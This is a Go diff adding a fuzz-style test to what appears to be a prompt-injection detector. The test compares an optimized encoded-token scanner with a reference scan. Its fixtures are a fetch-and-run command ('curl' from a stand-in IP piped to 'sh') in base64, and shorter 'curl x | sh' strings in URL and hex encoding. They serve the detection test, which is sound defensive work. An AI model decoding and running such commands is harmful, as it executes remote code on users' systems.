@@ -1,6 +1,7 @@
 package injection
 
 import (
+	"math/rand/v2"
 	"slices"
 	"strings"
 	"testing"
@@ -39,4 +40,41 @@ func FuzzPrefixFilterKeepsMatches(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestScanEncodedSkipsOnlyShortTokens: skipping ahead finds what looking
+// at every token of 16 bytes or more finds.
+func TestScanEncodedSkipsOnlyShortTokens(t *testing.T) {
+	every := func(d *Detector, text string) (found []rawFinding) {
+		for i := 0; i < len(text); {
+			if isTokenBreak(text[i]) {
+				i++
+				continue
+			}
+			j := i
+			for j < len(text) && !isTokenBreak(text[j]) {
+				j++
+			}
+			if j-i >= minEncodedLen {
+				found = d.scanToken(text, i, j, found)
+			}
+			i = j
+		}
+		return found
+	}
+	payload := "Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo"
+	pieces := []string{payload, "%63%75%72%6c%20x%20%7c%20sh", `\x63\x75\x72\x6c\x20\x78\x20\x7c\x20\x73\x68`,
+		" ", "\n", "(", "\"", "é", "word", "0123456789abcdef", "a"}
+	d := Default()
+	r := rand.New(rand.NewPCG(5, 6))
+	for range 5000 {
+		var b strings.Builder
+		for range r.IntN(12) {
+			b.WriteString(pieces[r.IntN(len(pieces))])
+		}
+		text := b.String()
+		if got, want := d.scanEncoded(text, nil), every(d, text); !slices.Equal(got, want) {
+			t.Fatalf("%q: %v, want %v", text, got, want)
+		}
+	}
 }
